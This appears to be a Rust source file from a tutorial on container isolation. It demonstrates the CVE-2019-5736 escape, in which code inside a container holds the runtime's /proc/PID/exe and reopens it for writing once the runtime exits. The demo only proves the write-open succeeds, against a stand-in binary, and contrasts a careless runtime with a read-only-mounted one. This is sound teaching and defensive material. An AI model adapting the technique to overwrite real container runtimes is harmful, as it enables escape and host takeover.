// ANCHOR: program
//! Chapters 2 and 6: the runtime's own program, overwritten through /proc/PID/exe (CVE-2019-5736).

use std::fs::{self, OpenOptions, Permissions};
use std::io::{Read, Write};
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::PathBuf;
use std::thread::sleep;
use std::time::Duration;

use anyhow::{Context, Result, anyhow};
use ch01_pid::spawn::exit_now;
use ch02_mount::{Attributes, Setting, Tree};
use ch06_exec::{Exec, Kind, Target};
use nix::errno::Errno;
use nix::fcntl::{AtFlags, OFlag, open};
use nix::sys::stat::Mode;
use nix::unistd::execveat;

use super::stage::{Stage, refused_io};
use crate::container::Container;
use crate::inside::Answer;
use crate::start;

/// A process of the runtime's comes into the container, as `docker exec` does. The container opens its
/// program, waits until nobody runs it, and opens it again to write.
pub fn overwrite(stage: &Stage, container: &Container) -> Result<Answer> {
    let runtime = runtime(container.careless)?;
    let (host, child) = UnixStream::pair().context("socketpair")?;
    let held = start(
        stage.lesson,
        container,
        None,
        &[child.as_fd()],
        || Ok(()),
        |report| {
            report.close();
            let answer = match attack(&child) {
                Ok(achieved) => format!("+{achieved}"),
                Err(refusal) => format!("-{refusal}"),
            };
            (&child).write_all(answer.as_bytes()).context("write the answer")?;
            exit_now(0)
        },
    )?;
    let mut attacker = held.release(None)?;
    drop(child);

    let target = Target::open(attacker.pid())?;
    let exec =
        Exec::new(&target).only(&[Kind::Pid]).without_cgroup().keep([runtime.as_fd()]).dies_with_parent();
    let joined = exec.start(|_| {
        let (arguments, environment) = ([c"sleep", c"60"], [c"PATH=/"]);
        let Err(errno) = execveat(&runtime, c"", &arguments, &environment, AtFlags::AT_EMPTY_PATH);
        Err(anyhow!(errno).context("execveat of the runtime"))
    })?;
    let joined = joined.release(None)?;
    let mut first = [0];
    (&host).write_all(b"look").context("tell the attacker")?;
    (&host).read_exact(&mut first).context("hear from the attacker")?;
    // The runtime ends; from now on its program can be written.
    drop(joined);
    let mut answer = String::new();
    if first == *b"r" {
        (&host).write_all(b"go").context("tell the attacker")?;
    } else {
        answer.push(first[0].into());
    }
    (&host).read_to_string(&mut answer).context("hear from the attacker")?;
    attacker.wait()?;
    Ok(match answer.strip_prefix('+') {
        Some(achieved) => Ok(achieved.into()),
        None => Err(answer.trim_start_matches('-').into()),
    })
}
// ANCHOR_END: program

// ANCHOR: runtime
/// A program that stands for the runtime, in a file system that only the host sees; open, to be executed. A
/// runtime that is careful executes itself from a read-only clone of the mount, as [`ch06_exec::executable`]
/// does.
fn runtime(careless: bool) -> Result<OwnedFd> {
    let directory = Tree::new("tmpfs", &[Setting::Text("mode", "755")], Attributes::NONE)?;
    let path = PathBuf::from(format!("/proc/self/fd/{}/runtime", directory.as_fd().as_raw_fd()));
    fs::write(&path, fs::read(find("sleep")?).context("read sleep")?).context("copy sleep")?;
    fs::set_permissions(&path, Permissions::from_mode(0o755)).context("chmod of the copy")?;
    let mut directory = directory;
    if !careless {
        directory.add(Attributes::READ_ONLY, false)?;
    }
    open(&path, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()).context("open the copy")
}

fn find(name: &str) -> Result<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let mut files = std::env::split_paths(&path).map(|directory| directory.join(name));
    files.find(|file| file.exists()).with_context(|| format!("no {name} in PATH"))
}
// ANCHOR_END: runtime

// ANCHOR: attack
/// The container's half.
fn attack(mut host: &UnixStream) -> Answer {
    let io = |call: &'static str| move |error: std::io::Error| refused_io(call, &error);
    host.read_exact(&mut [0; 4]).map_err(io("read"))?;
    let stranger = stranger().ok_or("it does not see the runtime's process")?;
    let program = stranger.join("exe");
    let held = open(&program, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty());
    let held = held.map_err(|errno| format!("open /proc/PID/exe: {errno:?}"))?;
    host.write_all(b"r").map_err(io("write"))?;
    host.read_exact(&mut [0; 2]).map_err(io("read"))?;
    let again = format!("/proc/self/fd/{}", held.as_raw_fd());
    for _ in 0..100 {
        match OpenOptions::new().write(true).open(&again) {
            Ok(_) => return Ok("its program is open to write".into()),
            // Somebody still runs it.
            Err(error) if error.raw_os_error() == Some(Errno::ETXTBSY as i32) => {
                sleep(Duration::from_millis(20))
            }
            Err(error) => return Err(refused_io("open to write", &error)),
        }
    }
    Err("open to write: ETXTBSY".into())
}

/// The directory of a process that is not this one.
fn stranger() -> Option<PathBuf> {
    let own = std::process::id().to_string();
    let entries = fs::read_dir("/proc").ok()?.filter_map(Result::ok);
    let mut processes = entries.filter(|entry| {
        let name = entry.file_name();
        name.to_str().is_some_and(|name| name.parse::<u32>().is_ok() && name != own)
    });
    processes.next().map(|entry| entry.path())
}
// ANCHOR_END: attack
